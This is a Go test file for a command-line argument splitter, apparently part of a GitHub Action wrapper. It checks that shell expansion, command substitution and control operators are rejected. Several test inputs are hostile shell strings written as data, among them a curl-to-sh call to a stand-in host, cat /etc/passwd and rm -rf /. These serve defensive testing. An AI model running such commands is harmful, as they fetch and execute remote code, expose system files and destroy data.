package cli

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

func TestSplitArgs(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want []string
		err  string
	}{
		{in: "", want: nil},
		{in: "  --fail-on   error\t.github \n", want: []string{"--fail-on", "error", ".github"}},
		{in: `--tag '{registry}/{repo}:{tag}' "my dir" a\ b`, want: []string{"--tag", "{registry}/{repo}:{tag}", "my dir", "a b"}},
		{in: `'$HOME' "it's" 'say "hi"'`, want: []string{"$HOME", "it's", `say "hi"`}},
		{in: `*.yml adapters/** [ab]`, want: []string{"*.yml", "adapters/**", "[ab]"}},
		{in: `--x=''`, want: []string{"--x="}},
		{in: `"" x`, want: []string{"", "x"}},
		{in: `$HOME`, err: `col 1: parameter expansion "$HOME" is not performed in args; quote it with single quotes to pass it literally`},
		{in: `--token="${GITHUB_TOKEN}"`, err: `col 10: parameter expansion "${GITHUB_TOKEN}" is not performed`},
		{in: `a $(curl evil.example | sh)`, err: `col 3: command substitution "$(curl evil.example | sh)" is not performed`},
		{in: "a `id`", err: "col 3: command substitution \"`id`\" is not performed"},
		{in: `$((1+2))`, err: `col 1: arithmetic expansion "$((1+2))" is not performed`},
		{in: `<(cat /etc/passwd)`, err: `<(cat /etc/passwd)`},
		{in: `~/x`, err: `col 1: "~/x": tilde expansion is not performed; quote it`},
		{in: `'unterminated`, err: "reached EOF without closing quote"},
		{in: `a; rm -rf /`, err: `;`},
		{in: `a | b`, err: `|`},
		{in: `a && b`, err: `&&`},
		{in: `a > /etc/x`, err: `>`},
		{in: strings.Repeat("a ", maxActionArgs), err: "more than the 65536 allowed"},
	} {
		got, err := SplitArgs(tt.in)
		if tt.err != "" {
			if err == nil || !strings.Contains(err.Error(), tt.err) {
				t.Errorf("SplitArgs(%.40q) = %q, %v; want an error containing %q", tt.in, got, err, tt.err)
			}
			continue
		}
		if err != nil || !slices.Equal(got, tt.want) {
			t.Errorf("SplitArgs(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
		}
	}
}

func TestActionArgv(t *testing.T) {
	got, err := actionArgv("lint", `--fail-on error 'a b'`, "ci/molecule ci.yml", "out.sarif", "ci/base line.json")
	want := []string{"lint", "--config", "ci/molecule ci.yml", "--sarif-file", "out.sarif", "--baseline", "ci/base line.json", "--fail-on", "error", "a b"}
	if err != nil || !slices.Equal(got, want) {
		t.Errorf("actionArgv = %q, %v; want %q", got, err, want)
	}
	if got, err := actionArgv("", "", "", "", ""); err != nil || !slices.Equal(got, []string{"lint"}) {
		t.Errorf("actionArgv with no inputs = %q, %v; want [lint]", got, err)
	}
	for _, tt := range []struct{ cmd, sarif, baseline, want string }{
		{"action", "", "", `input command: unknown command "action" (valid: build, coverage, fleet, lint, probe, triage, version)`},
		{"help", "", "", `unknown command "help"`},
		{"build", "x.sarif", "", `input sarif-file: only the lint command writes SARIF (command is "build")`},
		{"coverage", "", "b.json", `input baseline: only the lint command reads a baseline (command is "coverage")`},
	} {
		_, err := actionArgv(tt.cmd, "", "", tt.sarif, tt.baseline)
		var ue *usageError
		if err == nil || !errors.As(err, &ue) || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("actionArgv(%q) error = %v; want a usage error containing %q", tt.cmd, err, tt.want)
		}
	}
}

// FuzzSplitArgs: the splitter never panics, and whatever it accepts contains no expansion result:
// re-splitting the words, each single-quoted, gives the same words back.
func FuzzSplitArgs(f *testing.F) {
	for _, s := range []string{"", "a b", `'a b' "c d" e\ f`, "$X", "$(id)", "`id`", "~", "{a,b}", "a;b", `"$X"`, "'\x00'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		words, err := SplitArgs(s)
		if err != nil {
			return
		}
		var quoted []string
		for _, w := range words {
			if strings.ContainsRune(w, 0) {
				return // NUL cannot be quoted back; the words themselves were still literal
			}
			quoted = append(quoted, "'"+strings.ReplaceAll(w, "'", `'\''`)+"'")
		}
		again, err := SplitArgs(strings.Join(quoted, " "))
		if err != nil || !slices.Equal(again, words) {
			t.Fatalf("SplitArgs(%q) = %q; quoted back and split again: %q, %v", s, words, again, err)
		}
	})
}
